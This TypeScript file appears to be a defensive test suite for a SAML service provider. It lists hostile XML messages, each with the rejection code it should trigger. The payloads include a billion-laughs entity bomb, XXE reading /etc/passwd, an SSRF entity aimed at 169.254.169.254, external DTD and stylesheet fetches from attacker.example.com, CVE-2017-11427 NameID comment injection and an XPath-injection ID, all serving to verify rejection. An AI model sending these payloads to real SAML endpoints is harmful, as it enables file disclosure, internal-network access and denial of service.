import { assertion, attribute, attributeStatement, nameId, response } from "../forge/message.ts";
import { signed } from "../forge/signature.ts";
import { toField } from "../idp.ts";
import { changed, sentXml, written, type MessageAttack } from "./attack.ts";

const MALFORMED = "saml_xml_malformed";
const FORBIDDEN = "saml_xml_forbidden";
const DOCTYPE = "saml_doctype";
const COMPLEX = "saml_too_complex";
const NAMESPACE = "saml_namespace_invalid";

const BILLION = ["a", "b", "c", "d", "e", "f", "g", "h", "i"]
  .map((name, at, all) => `<!ENTITY ${name} "${at === 0 ? "lol" : `&${all[at - 1]};`.repeat(10)}">`)
  .join("");

const raw = (name: string, code: MessageAttack["code"], build: MessageAttack["build"]): MessageAttack => ({
  name,
  code,
  build,
});

/** Text in front of a message that is right in everything else. */
const behind = (name: string, code: MessageAttack["code"], prologue: string): MessageAttack =>
  written(name, code, (context) => prologue + sentXml(context));

/** Bytes that are not the text that they seem, and XML that costs time or reads differently in two parsers. */
export const xml: readonly MessageAttack[] = [
  behind("an empty DOCTYPE", DOCTYPE, "<!DOCTYPE Response>"),
  behind("an entity", DOCTYPE, '<!DOCTYPE r [<!ENTITY who "victim">]>'),
  behind("billion laughs", DOCTYPE, `<!DOCTYPE r [${BILLION}]>`),
  behind("an external entity on disk", DOCTYPE, '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
  behind(
    "an external entity on the network",
    DOCTYPE,
    '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://169.254.169.254/">%x;]>',
  ),
  behind("an external DTD", DOCTYPE, '<!DOCTYPE r SYSTEM "http://attacker.example.com/x.dtd">'),
  behind(
    "a DTD that makes another attribute the ID",
    DOCTYPE,
    "<!DOCTYPE r [<!ATTLIST r Other ID #IMPLIED>]>",
  ),
  behind(
    "a processing instruction",
    FORBIDDEN,
    '<?xml-stylesheet href="http://attacker.example.com/x.xsl"?>',
  ),
  behind("a comment in front", FORBIDDEN, "<!-- -->"),
  behind("XML 1.1", MALFORMED, '<?xml version="1.1"?>'),
  behind("a declared encoding of UTF-16", MALFORMED, '<?xml version="1.0" encoding="UTF-16"?>'),
  behind("a declared encoding of UTF-7", MALFORMED, '<?xml version="1.0" encoding="UTF-7"?>'),
  behind("text in front of the root", MALFORMED, "hello"),
  written("a comment in the NameID (CVE-2017-11427)", FORBIDDEN, (context) => {
    const honest = `${context.victim}.attacker.example.com`;
    return sentXml(context, { person: honest }).replaceAll(
      honest,
      `${context.victim}<!---->.attacker.example.com`,
    );
  }),
  written("a processing instruction in the NameID", FORBIDDEN, (context) => {
    const honest = `${context.victim}.attacker.example.com`;
    return sentXml(context, { person: honest }).replaceAll(
      honest,
      `${context.victim}<?x?>.attacker.example.com`,
    );
  }),
  written("CDATA in the NameID", FORBIDDEN, (context) =>
    sentXml(context).replace(
      `>${context.victim}</saml:NameID>`,
      `><![CDATA[${context.victim}]]></saml:NameID>`,
    ),
  ),
  written("text behind the root", MALFORMED, (context) => `${sentXml(context)}hello`),
  written("two roots", MALFORMED, (context) => sentXml(context) + sentXml(context)),
  written("a message that is cut off", MALFORMED, (context) => sentXml(context).slice(0, -20)),
  written("an entity that nobody declared", MALFORMED, (context) =>
    sentXml(context).replace(">staff<", ">&who;<").replace(context.victim, `&who;${context.victim}`),
  ),
  written("the same attribute twice", MALFORMED, (context) =>
    sentXml(context).replace("<samlp:Response ", '<samlp:Response Version="2.0" '),
  ),
  written("a prefix that nobody declared", MALFORMED, (context) =>
    sentXml(context).replace("<samlp:Status>", "<samlp:Status evil:x='1'>"),
  ),
  written("a NUL character", MALFORMED, (context) =>
    sentXml(context).replace(context.victim, `\u0000${context.victim}`),
  ),
  written("a NUL as a reference", MALFORMED, (context) =>
    sentXml(context).replace(context.victim, `&#0;${context.victim}`),
  ),
  raw("UTF-16 bytes", "saml_encoding_invalid", (context) =>
    Buffer.from(`\uFEFF${sentXml(context)}`, "utf16le").toString("base64"),
  ),
  raw("UTF-7 bytes", MALFORMED, (context) =>
    toField(sentXml(context).replaceAll("<", "+ADw-").replaceAll(">", "+AD4-")),
  ),
  raw("a byte order mark", "saml_encoding_invalid", (context) => toField(`\uFEFF${sentXml(context)}`)),
  raw("invalid UTF-8", "saml_encoding_invalid", (context) =>
    Buffer.from(sentXml(context).replace(context.victim, "\u00ff\u00fe"), "latin1").toString("base64"),
  ),
  raw("overlong UTF-8", "saml_encoding_invalid", (context) =>
    Buffer.from(sentXml(context).replace(context.victim, "\u00c0\u00bc"), "latin1").toString("base64"),
  ),
  raw("not base64", "saml_base64_invalid", () => "<samlp:Response/>"),
  raw("base64 with foreign characters between", "saml_base64_invalid", (context) => {
    const field = toField(sentXml(context));
    return `${field.slice(0, 100)}!!${field.slice(100)}`;
  }),
  raw("base64url", "saml_base64_invalid", (context) => `${toField(sentXml(context)).replace(/=*$/, "")}-_-_`),
  raw("base64 of nothing but white space", MALFORMED, () => toField("   ")),
  raw("an empty field", "saml_base64_invalid", () => ""),
  raw("a body of a megabyte", ["saml_too_large", "acs_body_too_large"], (context) =>
    toField(sentXml(context) + " ".repeat(1_000_000)),
  ),
  changed("depth of a thousand", COMPLEX, () => ({
    response: {
      extensions: `<samlp:Extensions>${"<x>".repeat(1000)}${"</x>".repeat(1000)}</samlp:Extensions>`,
    },
  })),
  changed("ten thousand siblings", COMPLEX, () => ({
    response: { extensions: `<samlp:Extensions>${"<x/>".repeat(10_000)}</samlp:Extensions>` },
  })),
  changed("a thousand attributes on one element", COMPLEX, () => ({
    response: {
      extensions: `<samlp:Extensions><x${Array.from({ length: 1000 }, (_, at) => ` a${at}="1"`).join("")}/></samlp:Extensions>`,
    },
  })),
  changed("a thousand namespaces on one element", COMPLEX, () => ({
    response: {
      extensions: `<samlp:Extensions><x${Array.from({ length: 1000 }, (_, at) => ` xmlns:n${at}="urn:n:${at}"`).join("")}/></samlp:Extensions>`,
    },
  })),
  changed("an odd namespace URI", NAMESPACE, () => ({
    response: { extensions: '<samlp:Extensions><x xmlns="no colon"></x></samlp:Extensions>' },
  })),
  changed("a relative namespace URI with a quote in it", NAMESPACE, () => ({
    response: { extensions: "<samlp:Extensions><x xmlns='urn:a\"b'></x></samlp:Extensions>" },
  })),
  written("the Response in another namespace", NAMESPACE, (context) =>
    sentXml(context, { sign: "assertion" }).replace("SAML:2.0:protocol", "SAML:1.1:protocol"),
  ),
  written("the Assertion in another namespace", NAMESPACE, (context) => {
    const inner = assertion(context, context.victim).replaceAll("SAML:2.0:assertion", "SAML:2.0:other");
    return signed(response(context, inner), "_r1", context.idp.key);
  }),
  written("the Signature in another namespace", NAMESPACE, (context) =>
    sentXml(context).replaceAll('http://www.w3.org/2000/09/xmldsig#"', 'http://www.w3.org/2000/09/xmldsig"'),
  ),
  changed("a NameID of another namespace in the subject", NAMESPACE, (context) => ({
    assertion: { nameId: `<x:NameID xmlns:x="urn:x">${context.victim}</x:NameID>${nameId(context.forger)}` },
  })),
  written("a prefixed ID beside the ID", "saml_id_invalid", (context) =>
    sentXml(context, { assertion: { tag: { "xmlns:x": "urn:x", "x:ID": "_other" } } }),
  ),
  written("a lower-case id beside the ID", "saml_id_invalid", (context) =>
    sentXml(context, { assertion: { tag: { id: "_other" } } }),
  ),
  written("an xml:id", "saml_id_invalid", (context) =>
    sentXml(context, { assertion: { attributes: attributeStatement(attribute("x", '<v xml:id="_a1"/>')) } }),
  ),
  changed("an ID that begins with a digit", "saml_id_invalid", () => ({
    assertion: { tag: { ID: "1a" } },
    sign: "response",
  })),
  changed("an ID with a quote for an XPath", "saml_id_invalid", () => ({
    assertion: { tag: { ID: "_a' or '1'='1" } },
    sign: "response",
  })),
  changed("an assertion without ID", "saml_id_invalid", () => ({
    assertion: { tag: { ID: undefined } },
    sign: "response",
  })),
  written("a response without ID", "saml_id_invalid", (context) =>
    sentXml(context, { response: { tag: { ID: undefined } }, sign: "assertion" }),
  ),
];
